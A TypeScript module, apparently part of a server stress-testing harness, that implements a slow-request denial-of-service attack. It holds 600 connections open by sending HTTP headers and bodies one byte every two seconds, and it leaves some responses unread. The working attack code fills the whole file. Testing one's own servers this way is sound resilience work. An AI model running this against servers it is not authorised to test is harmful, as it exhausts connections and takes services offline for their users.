import { type Attack, untilEnded } from '../attack.ts';
import { headersOf, openSocket } from '../target.ts';

const CONNECTIONS = 600;
const DRIP_MS = 2_000;

/** Sends heads and bodies that never end, one byte at a time, and never reads some answers. */
export const slow: Attack = async (target, count, signal, paths) => {
  const beginnings = [
    `GET ${paths.stored} HTTP/1.1\r\nHost: a\r\nX-Slow: `,
    'POST /Contact HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n',
    'POST /api/contact HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n',
    `GET /revision/cambios HTTP/1.1\r\nHost: a\r\n`,
  ];
  await untilEnded(CONNECTIONS, signal, async (n) => {
    const kind = n % beginnings.length;
    const socket = openSocket(target, n, count);
    const body = kind === 0 ? '' : `${headersOf(target, n)}\r\n`;
    socket.write(beginnings[kind]! + body);
    count.sent++;
    if (kind !== 3) socket.on('data', count.reader(beginnings[kind]!.split(' HTTP')[0]!));
    const drip = setInterval(() => socket.write(kind === 2 ? '1\r\na\r\n' : 'a'), DRIP_MS);
    await new Promise<void>((resolve) => {
      socket.on('close', () => resolve());
      signal.addEventListener('abort', () => socket.destroy(), { once: true });
      if (kind === 3) setTimeout(() => socket.destroy(), 5 * DRIP_MS);
    });
    clearInterval(drip);
  });
};
